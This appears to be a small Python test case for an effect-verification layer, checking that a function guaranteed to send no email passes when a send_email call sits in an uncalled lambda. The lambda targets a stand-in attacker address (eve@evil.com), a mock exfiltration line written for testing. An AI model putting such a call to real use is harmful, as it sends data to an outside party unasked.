# proved: a lambda that nobody calls does nothing
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    f = lambda: send_email("eve@evil.com", "x")
    log("done")
